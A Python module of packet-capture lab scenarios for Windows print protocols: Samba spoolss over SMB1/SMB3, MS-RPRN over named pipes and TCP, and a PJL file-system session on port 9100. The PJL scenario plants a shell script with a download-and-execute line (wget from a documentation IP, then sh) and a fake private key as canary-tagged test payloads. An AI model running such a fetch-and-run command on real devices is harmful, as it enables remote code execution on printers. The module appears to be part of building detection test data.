"""Capture-lab scenarios for the Windows print paths and the printer's own side (issue 10).

Imported by ``tools/make_captures.py``, which appends :data:`SCENARIOS` to its own list.  Each
scenario drives real software in the lab's namespaces:

* Samba 4.17 (``smbd`` + ``samba-dcerpcd``/``rpcd_spoolss``) as the print server, with SMB1
  (``server min protocol = NT1``, NBSS on 139 and 445), many printers with long comments (large
  EnumPrinters/GetPrinter replies), and SMB3 with and without encryption;
* ``smbclient -m NT1`` and ``rpcclient`` (SMB1 and SMB3) as clients;
* ``tools/rprn_client.py`` (impacket's MS-RPRN NDR plus our own StartDocPrinter/WritePrinter/
  EndDocPrinter calls) for print jobs through spoolss over ``ncacn_np`` and ``ncacn_ip_tcp``;
* ``tools/pjlfs_responder.py`` (a test responder, see its docstring) and ``tools/pjlfs_client.py``
  for a PJL file-system session on 9100.

What could not be made with free software is said in the scenario notes (and in the truth files).
"""

from __future__ import annotations

import base64
import hashlib
import importlib.metadata
import json
import os
import re
import shutil
import subprocess
import sys
import time
from pathlib import Path

from tools.make_captures import USER, Doc, Expect, Payload, Scenario, tshark, wait_files
from tools.netlab import Lab, LabError

TOOLS = Path(__file__).resolve().parent
PASSWORD = "Lab-pass-2026"

#: printers beyond the first one, so EnumPrinters level 2 replies span many DCE/RPC fragments
EXTRA_PRINTERS = 12
LONG_COMMENT = ("Finance floor 3 east wing, duplex A4/A3, locked tray for payroll cheques, "
                "contact the service desk on extension 4410 before changing toner or trays; "
                "asset tag {n:04d}")


class Samba:
    """A private smbd (own state directories, private passwd/group with user alice) in ``prn``.

    ``printers`` printable shares all run one print command that copies the spool file into
    ``out/`` (so what Samba accepted can be compared with what the client sent).
    """

    def __init__(self, sc: Scenario, lab: Lab, *, smb1: bool = False, ports: str = "445",
                 encrypt: str = "off", spoolss: bool = True, extra_printers: int = 0,
                 extra_global: str = ""):
        self.sc, self.lab = sc, lab
        s = self.dir = sc.work / "samba"
        for sub in ("lock", "state", "cache", "private", "pid", "ncalrpc", "log"):
            (s / sub).mkdir(parents=True, exist_ok=True)
        for sub in ("spool", "out", "share"):
            (s / sub).mkdir(parents=True, exist_ok=True)
            os.chmod(s / sub, 0o1777)
        self.out = s / "out"
        (s / "passwd").write_text(Path("/etc/passwd").read_text()
                                  + "alice:x:7701:7701:Alice Example:/nonexistent:/bin/false\n")
        (s / "group").write_text(Path("/etc/group").read_text() + "alice:x:7701:\n")
        proto = ""
        if smb1:
            # SMB1 is off by default since 4.11; NT1 is "NT LM 0.12" on the wire
            proto = "  server min protocol = NT1\n  ntlm auth = ntlmv1-permitted\n"
        netbios = "no" if "139" in ports.split() else "yes"
        printers = ["Floor2"] + [f"Finance{n:02d}" for n in range(1, extra_printers + 1)]
        self.printers = printers
        shares = []
        for n, name in enumerate(printers):
            comment = "Floor 2 laser (HR)" if n == 0 else LONG_COMMENT.format(n=n)
            shares.append(f"""[{name}]
  path = {s}/spool
  printable = yes
  comment = {comment}
  print command = /bin/cp %s {s}/out/job-$(/usr/bin/basename %s).bin; /bin/rm %s
  lpq command = /bin/true
  lprm command = /bin/true
  lppause command = /bin/true
  lpresume command = /bin/true
""")
        self.conf = s / "smb.conf"
        self.conf.write_text(f"""[global]
  workgroup = LAB
  server role = standalone server
  netbios name = PRN
  server string = Lab print server
  disable netbios = {netbios}
  smb ports = {ports}
{proto}  lock directory = {s}/lock
  state directory = {s}/state
  cache directory = {s}/cache
  private dir = {s}/private
  pid directory = {s}/pid
  ncalrpc dir = {s}/ncalrpc
  log file = {s}/log/log.%m
  log level = 1
  passdb backend = tdbsam:{s}/private/passdb.tdb
  server smb encrypt = {encrypt}
  load printers = no
  printcap name = /dev/null
  printing = bsd
  disable spoolss = {"no" if spoolss else "yes"}
  server services = -nbt -dns -kdc
  map to guest = never
{extra_global}
{"".join(shares)}
[docs]
  path = {s}/share
  read only = no
""")
        self.wrap = ["unshare", "-m", "sh", "-c",
                     f"mount --bind {s}/passwd /etc/passwd && mount --bind {s}/group /etc/group "
                     "&& exec \"$@\"", "wrap"]
        sc.cmd(lab, "prn", self.wrap + ["sh", "-c", f"printf '{PASSWORD}\\n{PASSWORD}\\n' | "
                                        f"smbpasswd -c {self.conf} -s -a alice"])
        sc.notes.append(
            f"Samba {'SMB1 (server min protocol = NT1, ntlm auth = ntlmv1-permitted), ' if smb1 else ''}"
            f"smb ports = {ports}, disable netbios = {netbios}, server smb encrypt = {encrypt}, "
            f"disable spoolss = {'no' if spoolss else 'yes'}, printing = bsd with "
            f"{len(printers)} printable shares ({len(printers) - 1} with ~220-character comments, "
            "so EnumPrinters level 2 spans several DCE/RPC fragments); every print command copies "
            "the spool file, whose sha256 is checked against what the client sent")
        self.log = sc.work / "smbd.log"
        sc.spawn(lab, "prn", self.wrap + ["smbd", "--foreground", "--no-process-group",
                                          "--debug-stdout", "-s", str(self.conf)],
                 stdout=open(self.log, "w"), stderr=subprocess.STDOUT)
        for port in ports.split():
            lab.wait_port("prn", int(port))
        time.sleep(0.5)

    def grant_print_operator(self, user: str = USER) -> None:
        """SePrintOperatorPrivilege: rpcclient's getprinter opens with MAXIMUM_ALLOWED."""
        self.sc.cmd(self.lab, "prn", self.wrap + ["net", "-s", str(self.conf), "sam", "rights",
                                                  "grant", user, "SePrintOperatorPrivilege"])

    def warm_up(self) -> None:
        """One EnumPrinters before the capture: spoolss writes every printer's registry keys on
        its first enumeration, which can take longer than a client's RPC timeout on a busy host."""
        for _ in range(6):      # each try gets further: the keys written so far stay
            res = self.lab.run("ws", ["rpcclient", "-s", "/dev/null", "-U", f"{USER}%{PASSWORD}",
                                      "-c", "enumprinters", self.lab.ip("prn")], check=False)
            if res.returncode == 0:
                break
        else:
            raise LabError(f"spoolss never answered EnumPrinters: {res.stdout}{res.stderr}")
        self.sc.how.append("[ws] rpcclient -c enumprinters (warm-up, before the capture)")

    def jobs(self, count: int, timeout: float = 30) -> list[Path]:
        """The spool copies the print command made, oldest first."""
        return sorted(wait_files(self.out, count, timeout), key=lambda p: p.stat().st_mtime)


def client_conf(sc: Scenario, *, smb1: bool) -> Path:
    """smb.conf for smbclient/rpcclient: SMB1 must be allowed on the client side too."""
    path = sc.work / ("client-nt1.conf" if smb1 else "client.conf")
    lines = ["[global]", "  workgroup = LAB"]
    if smb1:
        # rpcclient takes its IPC$ connection's dialect from the "client ipc" pair, not -m
        lines += ["  client min protocol = NT1", "  client max protocol = NT1",
                  "  client ipc min protocol = NT1", "  client ipc max protocol = NT1"]
    path.write_text("\n".join(lines) + "\n")
    return path


# ------------------------------------------------------------------------------- tshark's view
#: DCE/RPC interfaces by UUID, named as in the JSON contract of issue 10
RPC_INTERFACES = {"12345678-1234-abcd-ef00-0123456789ab": "MS-RPRN",
                  "76f03f96-cdfd-44fc-a22c-64950a001209": "MS-PAR",
                  "e1af8308-5d1f-11c9-91a4-08002b14a0fa": "EPM"}
NT_STATUS = {"0x80000005": "STATUS_BUFFER_OVERFLOW", "0x00000103": "STATUS_PENDING"}


def tshark_values(field: str) -> dict[int, str]:
    """tshark's own value strings for ``field`` (opnum names, auth types and levels)."""
    out = subprocess.run(["tshark", "-G", "values"], capture_output=True, text=True).stdout
    vals = {}
    for line in out.splitlines():
        parts = line.split("\t")
        if len(parts) >= 4 and parts[1] == field:
            vals[int(parts[2])] = parts[3]
    return vals


class WinScenario(Scenario):
    """Adds tshark's view of DCE/RPC, spoolss, EPM and SMB named pipes to each flow's truth."""

    decode_as: tuple[str, ...] = ()     # extra "-d" rules (a dynamic RPC port)

    def _how(self, line: str) -> None:
        # the lab's own scripts, named as a reader would run them from the repository root
        self.how[-1] = line.replace(sys.executable, "python3").replace(str(TOOLS), "tools")

    def cmd(self, lab: Lab, host: str, argv, **kw):
        res = super().cmd(lab, host, argv, **kw)
        self._how(self.how[-1])
        return res

    def spawn(self, lab: Lab, host: str, argv, **kw):
        proc = super().spawn(lab, host, argv, **kw)
        self._how(self.how[-1])
        return proc

    def impacket_note(self) -> None:
        try:
            version = importlib.metadata.version("impacket")
        except importlib.metadata.PackageNotFoundError:
            version = "?"
        self.notes.append(f"impacket {version} (PyPI) under tools/rprn_client.py and "
                          "tools/rpc_tcp_bridge.py")

    def stream_facts(self, pcap: Path) -> dict[int, dict]:
        dec = [a for rule in self.decode_as for a in ("-d", rule)]
        opnames = tshark_values("spoolss.opnum")
        epm_ops = tshark_values("epm.opnum")
        auth_types = tshark_values("dcerpc.auth_type")
        auth_levels = tshark_values("dcerpc.auth_level")
        facts: dict[int, dict] = {}

        def add(stream: str, key: str, value) -> None:
            lst = facts.setdefault(int(stream), {}).setdefault(key, [])
            if value not in lst:
                lst.append(value)

        def count(stream: str, key: str) -> None:
            f = facts.setdefault(int(stream), {})
            f[key] = f.get(key, 0) + 1

        for r in tshark(pcap, *dec, "-Y", "dcerpc.pkt_type==11 || dcerpc.pkt_type==14",
                        "-T", "fields", "-e", "tcp.stream", "-e", "dcerpc.cn_bind_to_uuid",
                        "-e", "dcerpc.auth_type", "-e", "dcerpc.auth_level"):
            for uuid in filter(None, r[1].split(",")):
                add(r[0], "dcerpc_bind_interfaces", RPC_INTERFACES.get(uuid, uuid))
            if r[2]:
                add(r[0], "dcerpc_bind_auth", f"{auth_types.get(int(r[2]), r[2])}/"
                                              f"{auth_levels.get(int(r[3]), r[3])}")
            else:
                add(r[0], "dcerpc_bind_auth", "none")
        for r in tshark(pcap, *dec, "-Y", "dcerpc.pkt_type==0", "-T", "fields", "-e", "tcp.stream",
                        "-e", "dcerpc.opnum", "-e", "spoolss.opnum", "-e", "epm.opnum",
                        "-e", "dcerpc.cn_flags.last_frag"):
            if r[4] in ("0", "False"):   # stub dissected with the last fragment
                count(r[0], "dcerpc_request_fragments_not_last")
                continue
            for op in filter(None, r[1].split(",")):
                name = (opnames.get(int(op), op) if r[2] else
                        "epm." + epm_ops.get(int(op), op) if r[3] else f"opnum {op}")
                add(r[0], "dcerpc_requests", name)
        for r in tshark(pcap, *dec, "-Y", "dcerpc.pkt_type==2 && dcerpc.cn_flags.last_frag==0",
                        "-T", "fields", "-e", "tcp.stream"):
            count(r[0], "dcerpc_response_fragments_not_last")
        for r in tshark(pcap, *dec, "-Y", "spoolss.document || spoolss.datatype", "-T", "fields",
                        "-e", "tcp.stream", "-e", "spoolss.document", "-e", "spoolss.datatype"):
            if r[1]:
                add(r[0], "spoolss_document_names", r[1])
            if r[2]:
                add(r[0], "spoolss_datatypes", r[2])
        for r in tshark(pcap, *dec, "-Y", "ntlmssp.auth.username", "-T", "fields",
                        "-e", "tcp.stream", "-e", "ntlmssp.auth.username"):
            facts.setdefault(int(r[0]), {})["ntlmssp_user"] = r[1]
        for r in tshark(pcap, *dec, "-Y", "spoolss.writeprinter.numwritten", "-T", "fields",
                        "-e", "tcp.stream", "-e", "spoolss.writeprinter.numwritten"):
            f = facts.setdefault(int(r[0]), {})
            f["spoolss_bytes_written"] = f.get("spoolss_bytes_written", 0) + int(r[1])
        for r in tshark(pcap, *dec, "-Y", "epm.proto.tcp_port && dcerpc.pkt_type==2", "-T",
                        "fields", "-e", "tcp.stream", "-e", "epm.proto.tcp_port"):
            for port in filter(None, r[1].split(",")):
                add(r[0], "epm_map_tcp_ports", int(port))
        # SMB2/3 named pipes: transceive IOCTLs, their status, READ continuation
        for r in tshark(pcap, "-Y", "smb2.ioctl.function==0x0011c017 && smb2.flags.response==0",
                        "-T", "fields", "-e", "tcp.stream"):
            count(r[0], "smb2_pipe_transceive_requests")
        for r in tshark(pcap, "-Y", "smb2.cmd==8 && smb2.flags.response==0", "-T", "fields",
                        "-e", "tcp.stream"):
            count(r[0], "smb2_read_requests")
        for r in tshark(pcap, "-Y", "smb2.cmd==9 && smb2.flags.response==0", "-T", "fields",
                        "-e", "tcp.stream"):
            count(r[0], "smb2_write_requests")
        for r in tshark(pcap, "-Y", "smb2.flags.response==1 && (smb2.nt_status==0x80000005 || "
                        "smb2.nt_status==0x00000103)", "-T", "fields", "-e", "tcp.stream",
                        "-e", "smb2.cmd", "-e", "smb2.nt_status"):
            count(r[0], f"smb2_cmd{r[1]}_{NT_STATUS.get(r[2], r[2])}")
        # SMB1 named pipes: TransactNmPipe and READ_ANDX continuation after BUFFER_OVERFLOW
        for r in tshark(pcap, "-Y", "smb_pipe.function==0x0026 && smb.flags.response==0",
                        "-T", "fields", "-e", "tcp.stream"):
            count(r[0], "smb1_transact_nmpipe_requests")
        for r in tshark(pcap, "-Y", "smb.flags.response==1 && smb.nt_status==0x80000005",
                        "-T", "fields", "-e", "tcp.stream", "-e", "smb.cmd"):
            count(r[0], f"smb1_cmd{r[1]}_STATUS_BUFFER_OVERFLOW")
        return facts


# ------------------------------------------------------------------------------------ SMB1 print
class Smb1Print(WinScenario):
    """smbclient -m NT1 prints a PDF to a printable share, over NBSS on 445 and on 139."""

    name = "smb1-print"
    packages = ("samba", "smbclient", "ghostscript")

    def run(self, lab: Lab, pcap: Path) -> None:
        smb = Samba(self, lab, smb1=True, ports="139 445", spoolss=False)
        conf = client_conf(self, smb1=True)
        upload = self.work / "upload"
        upload.mkdir(exist_ok=True)
        docs = [self.docs.make("pdf", "pdf", "offer-letter.pdf"),
                self.docs.make("ps", "pjl-ps", "salary_review.ps")]
        prn = lab.ip("prn")
        with lab.capture(pcap, self.fmt):
            for doc, port in zip(docs, (445, 139), strict=True):
                named = upload / doc.title   # smbclient names the spool file after the local file
                shutil.copy(doc.path, named)
                self.cmd(lab, "ws", ["smbclient", "-s", conf, "-m", "NT1", "-p", str(port),
                                     "-U", f"{USER}%{PASSWORD}", f"//{prn}/Floor2",
                                     "-c", f"print {named}"])
                self.expects.append(Expect(port, "smb1", False, doc, USER, doc.title + "-<pid>",
                                           note=f"smbclient -m NT1 print on port {port}"
                                                + (" (NBSS session request first)"
                                                   if port == 139 else "")))
                time.sleep(0.5)
        for e, rec in zip(self.expects, smb.jobs(len(docs)), strict=True):
            e.received = rec


# --------------------------------------------------------------------------- spoolss, rpcclient
class RpcclientSpoolss(WinScenario):
    """rpcclient queries Samba's \\spoolss (EnumPrinters/GetPrinter/GetPrinterDriver)."""

    name = "smb1-spoolss"
    packages = ("samba", "smbclient", "groff")
    smb1 = True
    protection = "off"          # rpcclient --client-protection
    encrypt = "off"             # server smb encrypt
    extra_printers = 6
    commands = ("enumprinters 2", "getprinter Floor2 2", "getdriver Floor2")
    transceive = 0              # also run rprn_client.py with this MaxOutputResponse
    job_on_139 = True           # also print a job through \\spoolss over SMB1 on 139 (NBSS)

    def run(self, lab: Lab, pcap: Path) -> None:
        smb = Samba(self, lab, smb1=self.smb1, ports="139 445" if self.job_on_139 else "445",
                    encrypt=self.encrypt, extra_printers=self.extra_printers)
        doc = self.docs.make("pcl", "pjl-pcl5-text", WORD_DOC) if self.job_on_139 else None
        smb.grant_print_operator()
        smb.warm_up()
        conf = client_conf(self, smb1=self.smb1)
        argv = ["rpcclient", "-s", conf, "-U", f"{USER}%{PASSWORD}",
                f"--client-protection={self.protection}"]
        if self.smb1:
            argv += ["-m", "NT1"]
        with lab.capture(pcap, self.fmt):
            res = self.cmd(lab, "ws", [*argv, "-c", "; ".join(self.commands), lab.ip("prn")],
                           check=False)
            shown = res.stdout.count("printername:[")
            if "WERR_ACCESS_DENIED" in res.stdout + res.stderr or shown < len(smb.printers) + 1:
                raise LabError(f"rpcclient did not list every printer ({shown}): "
                               f"{res.stdout[-1500:]}{res.stderr[-1500:]}")
            (self.work / "rpcclient.out").write_text(res.stdout + res.stderr)
            self.expects.append(Expect(
                445, "smb1" if self.smb1 else "smb2", self.protection == "encrypt", None, USER,
                None, note="rpcclient -c '" + "; ".join(self.commands) + "'",
                facts=rpc_facts("ncacn_np", "none", client="rpcclient")))
            if doc is not None:
                time.sleep(0.5)
                info = rprn(self, lab, "--host", lab.ip("prn"), "--transport", "np", "--smb1",
                            "--port", "139", "--remote-name", "PRN", "--doc-name", WORD_DOC,
                            "--datatype", "RAW", "--file", str(doc.path))
                job = Expect(
                    139, "smb1", False, doc, USER, WORD_DOC,
                    facts=rpc_facts("ncacn_np", "none", info=info, doc_name=WORD_DOC,
                                    datatype="RAW"),
                    note="tools/rprn_client.py --smb1 on 139 (NBSS session request, NT LM 0.12, "
                         "\\spoolss through TRANSACTION/WRITE_ANDX/READ_ANDX): "
                         + ", ".join(info["calls"]))
                self.expects.append(job)
            if self.transceive:
                time.sleep(0.5)
                info = rprn(self, lab, "--host", lab.ip("prn"), "--transport", "np", "--enum",
                            "--getprinter", "--transceive", str(self.transceive))
                if not self.encrypt == "required" and not info["transceive_buffer_overflows"]:
                    raise LabError(f"no STATUS_BUFFER_OVERFLOW on the pipe: {info}")
                self.notes.append(
                    "rpcclient transceives with MaxOutputResponse 4280, the negotiated fragment "
                    "size, so Samba never answers it STATUS_BUFFER_OVERFLOW: it returns one "
                    "fragment per IOCTL (often after STATUS_PENDING) and rpcclient READs the "
                    "next ones.  The second flow asks for 1024 bytes as Windows does and gets "
                    "STATUS_BUFFER_OVERFLOW, then READs the rest of the message.")
                self.expects.append(Expect(
                    445, "smb2", self.encrypt == "required", None, USER, None,
                    facts=rpc_facts("ncacn_np", "none", info=info),
                    note="tools/rprn_client.py --transceive: FSCTL_PIPE_TRANSCEIVE with "
                         f"MaxOutputResponse {self.transceive} as Windows does; "
                         f"{info['transceive_buffer_overflows']} of "
                         f"{info['transceive_requests']} transceives answered "
                         "STATUS_BUFFER_OVERFLOW, the rest of each reply read with READ: "
                         + ", ".join(info["calls"])))
        if doc is not None:
            (job.received,) = smb.jobs(1)


class SpoolssSmb3Pipe(RpcclientSpoolss):
    """rpcclient over SMB3: large EnumPrinters replies through FSCTL_PIPE_TRANSCEIVE."""

    name = "spoolss-smb3-pipe"
    smb1 = False
    extra_printers = EXTRA_PRINTERS
    commands = ("enumprinters 2", "getprinter Floor2 2")
    transceive = 1024
    job_on_139 = False


class SpoolssSmb3PipeEnc(SpoolssSmb3Pipe):
    name = "spoolss-smb3-pipe-encrypted"
    protection = "encrypt"
    encrypt = "required"


# ---------------------------------------------------------------------- spoolss print jobs
WORD_DOC = "Microsoft Word - salary_review.docx"


def rpc_facts(transport: str, auth_level: str, *, info: dict | None = None,
              client: str = "tools/rprn_client.py", doc_name: str | None = None,
              datatype: str | None = None) -> dict:
    """What the scenario did over DCE/RPC, as flow facts (independent of any dissector)."""
    facts: dict = {"rpc_transport": transport, "rpc_interfaces": ["MS-RPRN"],
                   "rpc_auth_level": auth_level,
                   "rpc_auth_type": "NTLMSSP" if auth_level != "none" else None,
                   "ntlmssp_user": USER}
    if transport == "ncacn_np":
        facts["named_pipe"] = "\\spoolss"
    sp: dict = {"client": client}
    if info is not None:
        sp["calls"] = info["calls"]
        if "job_id" in info:
            sp["bytes_written"] = info["written"]
            facts["spoolss_job_id"] = info["job_id"]      # Samba's numbering: not compared
    if doc_name is not None:
        sp.update(document_name=doc_name, datatype=datatype)
    facts["spoolss"] = sp
    return facts


def rprn(sc: WinScenario, lab: Lab, *args: str) -> dict:
    """Run tools/rprn_client.py in the workstation namespace; its JSON summary."""
    if not any(n.startswith("impacket") for n in sc.notes):
        sc.impacket_note()
    res = sc.cmd(lab, "ws", [sys.executable, str(TOOLS / "rprn_client.py"), "--user", USER,
                             "--password", PASSWORD, *args])
    return json.loads(res.stdout.strip().splitlines()[-1])


class SpoolssPrintjobNp(WinScenario):
    """A print job through \\spoolss over SMB3 in clear: StartDocPrinter/WritePrinter/EndDoc."""

    name = "spoolss-printjob-np"
    packages = ("samba", "ghostscript", "groff")

    def run(self, lab: Lab, pcap: Path) -> None:
        smb = Samba(self, lab, extra_printers=EXTRA_PRINTERS)
        smb.warm_up()
        # PJL + PCL XL from Ghostscript, as a Windows PCL6 driver sends with datatype RAW
        doc = self.docs.make("pxl", "pjl-pclxl", WORD_DOC, pages=2)
        with lab.capture(pcap, self.fmt):
            info = rprn(self, lab, "--host", lab.ip("prn"), "--transport", "np", "--enum",
                        "--getprinter", "--doc-name", WORD_DOC, "--datatype", "RAW",
                        "--file", str(doc.path))
        (rec,) = smb.jobs(1)
        self.expects.append(Expect(
            445, "smb2", False, doc, USER, WORD_DOC, received=rec,
            facts=rpc_facts("ncacn_np", "none", info=info, doc_name=WORD_DOC, datatype="RAW"),
            note="tools/rprn_client.py (impacket MS-RPRN over ncacn_np, SMB3 unsigned/clear, "
                 "DCE/RPC bind without auth): " + ", ".join(info["calls"])))
        self.rprn_info = info


# --------------------------------------------------------------------------- print RPC over TCP
RPRN_UUID = "12345678-1234-abcd-ef00-0123456789ab"
RELAY_PORT = 49160          # in Samba's dynamic range (49152-65535), above what it allocates


class RpcTcp(WinScenario):
    """MS-RPRN over ncacn_ip_tcp: ept_map on 135, then a bind to the port it names.

    Samba 4.17 has no TCP endpoint for spoolss (its IDL names only ncacn_np and ncalrpc, and its
    spoolss refuses OpenPrinter over ncalrpc), so on the print server tools/rpc_tcp_bridge.py
    listens on the dynamic port and carries each DCE/RPC PDU unchanged to a \\spoolss pipe
    on Samba over the server's loopback, and tools/epm_register.py adds that port to the map
    Samba's real endpoint mapper (samba-dcerpcd/rpcd_epmapper on 135) answers from.  On the wire
    the client is impacket and every answer, the bind's NTLMSSP included, is Samba's; only the
    bind_ack's secondary address names the pipe where Windows would put the port.
    """

    name = "rpc-tcp-clear"
    packages = ("samba", "socat", "ghostscript")
    decode_as = (f"tcp.port=={RELAY_PORT},dcerpc",)
    # (auth level, print a job); Samba faults calls at level connect (access denied)
    flows = (("integrity", False), ("integrity", True))
    kind = ("ps", "pjl-ps", WORD_DOC)

    def run(self, lab: Lab, pcap: Path) -> None:
        smb = Samba(self, lab, extra_printers=4,
                    extra_global="  rpc start on demand helpers = no\n")
        self.spawn(lab, "prn", smb.wrap + ["/usr/libexec/samba/samba-dcerpcd", "--foreground",
                                           "--libexec-rpcds", "--no-process-group",
                                           "--debug-stdout", "-s", str(smb.conf)],
                   stdout=open(self.work / "samba-dcerpcd.log", "w"), stderr=subprocess.STDOUT)
        lab.wait_port("prn", 135)
        bridge = self.spawn(lab, "prn", [sys.executable, str(TOOLS / "rpc_tcp_bridge.py"),
                                         "--listen", str(RELAY_PORT), "--user", USER,
                                         "--password", PASSWORD], stdout=subprocess.PIPE,
                            stderr=open(self.work / "bridge.log", "w"))
        if bridge.popen.stdout is None or bridge.popen.stdout.readline().strip() != b"listening":
            raise LabError("rpc_tcp_bridge.py did not start: "
                           + (self.work / "bridge.log").read_text()[-1500:])
        # samba-dcerpcd has written every worker's interfaces to its map once they answer
        smb.warm_up()
        epmdb = smb.dir / "lock" / "epmdb.tdb"
        self.cmd(lab, "prn", ["/usr/bin/python3", str(TOOLS / "epm_register.py"), str(epmdb),
                              f"{RPRN_UUID}/0x00000001", str(RELAY_PORT)])
        doc = self.docs.make(*self.kind[:2], self.kind[2], pages=2)
        job: Expect | None = None
        with lab.capture(pcap, self.fmt):
            for level, with_job in self.flows:
                args = ["--host", lab.ip("prn"), "--transport", "tcp", "--auth", level,
                        "--enum", "--getprinter"]
                if with_job:
                    args += ["--doc-name", WORD_DOC, "--datatype", "RAW", "--file", str(doc.path)]
                info = rprn(self, lab, *args)
                if info["port"] != RELAY_PORT:
                    raise LabError(f"ept_map named port {info['port']}, not {RELAY_PORT}")
                self.expects.append(Expect(
                    135, None, False, ground_truth="dcerpc-epm",
                    facts={"epm": {"maps": "MS-RPRN", "protocol": "ncacn_ip_tcp",
                                   "port": RELAY_PORT}},
                    note="ept_map (unauthenticated) for MS-RPRN over ncacn_ip_tcp, answered by "
                         "Samba's endpoint mapper with the registered port"))
                e = Expect(RELAY_PORT, "dcerpc", level == "privacy", doc if with_job else None,
                           USER, WORD_DOC if with_job else None,
                           facts=rpc_facts("ncacn_ip_tcp", level, info=info,
                                           doc_name=WORD_DOC if with_job else None,
                                           datatype="RAW" if with_job else None),
                           note=f"tools/rprn_client.py over ncacn_ip_tcp, NTLMSSP at {level}: "
                                + ", ".join(info["calls"]))
                self.expects.append(e)
                if with_job:
                    job = e
                time.sleep(0.5)
        if job is not None:
            (job.received,) = smb.jobs(1)
        self.notes.append((RpcTcp.__doc__ or "").split("\n\n", 1)[1].strip().replace("\n    ", " "))
        if any(level != "privacy" for level, _ in self.flows):
            self.notes.append("Samba faults spoolss calls bound at auth level connect "
                              "(nca_s_fault_access_denied), so the clear flows bind NTLMSSP at "
                              "packet integrity: signed, stubs readable.")
        self.notes.append("MS-PAR (IRemoteWinspool, 76f03f96-cdfd-44fc-a22c-64950a001209) is not "
                          "served by Samba 4.17 (rpcd_spoolss lists only spoolss) nor by any other "
                          "free software found: no MS-PAR capture.")


class RpcTcpPrivacy(RpcTcp):
    name = "rpc-tcp-privacy"
    flows = (("privacy", True),)


# ----------------------------------------------------------------------- PJL file system on 9100
def small_doc(sc: Scenario, tag: str, kind: str, title: str, body: bytes, how: str) -> Doc:
    """A non-print payload (script, key) as a Doc, with the scenario's canary planted in it."""
    s = sc.docs.strings(tag, title)
    path = sc.docs.dir / f"{tag}.{kind}.bin"
    path.write_bytes(body.replace(b"{canary}", s["canary"].encode()))
    return Doc(tag, kind, path, [], {"canary": s["canary"], "job_title": title}, USER, title, how)


def fake_pem(seed: str) -> bytes:
    """PEM armour around deterministic bytes: looks like a key, is none (same bytes each build)."""
    body = base64.b64encode(hashlib.shake_256(seed.encode()).digest(1190)).decode()
    lines = [body[i:i + 64] for i in range(0, len(body), 64)]
    return ("-----BEGIN PRIVATE KEY-----\n" + "\n".join(lines)
            + "\n-----END PRIVATE KEY-----\n# {canary}\n").encode()


SHELL_SCRIPT = b"""#!/bin/sh
# firmware helper dropped through PJL FSDOWNLOAD ({canary})
wget -q -O /tmp/u http://203.0.113.7/u && sh /tmp/u
echo 'pwned' > /dev/console
"""


class PjlFsSession(WinScenario):
    """A PJL file-system session on 9100 against tools/pjlfs_responder.py (a test responder)."""

    name = "pjlfs-session"
    packages = ("ghostscript",)

    def run(self, lab: Lab, pcap: Path) -> None:
        vol = self.work / "volume"
        jobs = vol / "saveDevice" / "SavedJobs" / "KeepJob"
        for d in (jobs, vol / "pjl" / "certs", vol / "webServer" / "home"):
            d.mkdir(parents=True, exist_ok=True)
        pcl = self.docs.make("pcl", "pjl-pcl5-raster", "Payroll_Q3.pcl")
        ps = self.docs.make("ps", "pjl-ps", "salary_review.ps")
        key = small_doc(self, "key", "pem", "jetdirect.key", fake_pem(self.name),
                        "fake PEM private key (deterministic bytes in PEM armour, not a key)")
        script = small_doc(self, "script", "shell-script", "update.sh", SHELL_SCRIPT,
                           "hand-written shell script")
        stored = {"0:\\saveDevice\\SavedJobs\\KeepJob\\Payroll_Q3.pcl": (pcl, jobs),
                  "0:\\saveDevice\\SavedJobs\\KeepJob\\salary_review.ps": (ps, jobs),
                  "0:\\pjl\\certs\\jetdirect.key": (key, vol / "pjl" / "certs")}
        for name, (doc, where) in stored.items():
            shutil.copy(doc.path, where / name.rsplit("\\", 1)[1])
        put_remote = "0:\\pjl\\scripts\\update.sh"
        self.spawn(lab, "prn", [sys.executable, str(TOOLS / "pjlfs_responder.py"), "--port",
                                "9100", "--volume", str(vol)])
        lab.wait_port("prn", 9100)
        got = self.work / "read-back"
        argv = [sys.executable, str(TOOLS / "pjlfs_client.py"), "--host", lab.ip("prn"),
                "--out", str(got), "--put", str(script.path), put_remote,
                "--delete", next(iter(stored))]
        for name in stored:
            argv += ["--get", name]
        with lab.capture(pcap, self.fmt):
            res = self.cmd(lab, "ws", argv)
        info = json.loads(res.stdout.strip().splitlines()[-1])
        if (info["reply_terminators"]["UEL"] != 1 or (vol / "saveDevice" / "SavedJobs" / "KeepJob"
                                                     / "Payroll_Q3.pcl").exists()):
            raise LabError(f"PJL session did not go as planned: {info}")
        payloads = [Payload(doc, "server_to_client", "document-read-back" if doc is not key
                            else "file-read-back", Path(info["read_back"][name]),
                            note=f"FSUPLOAD of {name}")
                    for name, (doc, _) in stored.items()]
        payloads.append(Payload(script, "client_to_server", "file-written-to-printer",
                                vol / "pjl" / "scripts" / "update.sh",
                                note=f"FSDOWNLOAD FORMAT:BINARY of {put_remote}"))
        verbs = list(dict.fromkeys(" ".join(c.split()[:2]) if c.startswith("INFO") else
                                   c.split()[0] for c in info["commands"]))
        paths = list(dict.fromkeys(m for c in info["commands"]
                                   for m in re.findall(r'NAME="([^"]*)"', c)))
        self.expects.append(Expect(
            9100, "raw9100", False, None, None, None, payloads=payloads,
            facts={"pjl_fs": {
                "commands": verbs, "paths": paths,
                "files_read_back": list(stored), "files_written": [put_remote],
                "deleted": [next(iter(stored))], "directories_made": ["0:\\pjl\\scripts"],
                "reply_terminators": info["reply_terminators"],
                "reply_ended_by_uel": "INFO ID",
                "responder": "tools/pjlfs_responder.py (test responder, not a printer)"}},
            note="tools/pjlfs_client.py: " + "; ".join(info["commands"])))
        self.notes.append("No free printer implements the PJL file system: the printer side is "
                          "tools/pjlfs_responder.py, a test responder written for these captures "
                          "after the HP PJL Technical Reference; the client side is "
                          "tools/pjlfs_client.py.  The stored print jobs are Ghostscript ljet4 "
                          "PCL and hand-written PostScript, each in a PJL wrapper.")


SCENARIOS: list[type[Scenario]] = [Smb1Print, RpcclientSpoolss, SpoolssSmb3Pipe,
                                   SpoolssSmb3PipeEnc, SpoolssPrintjobNp, RpcTcp, RpcTcpPrivacy,
                                   PjlFsSession]
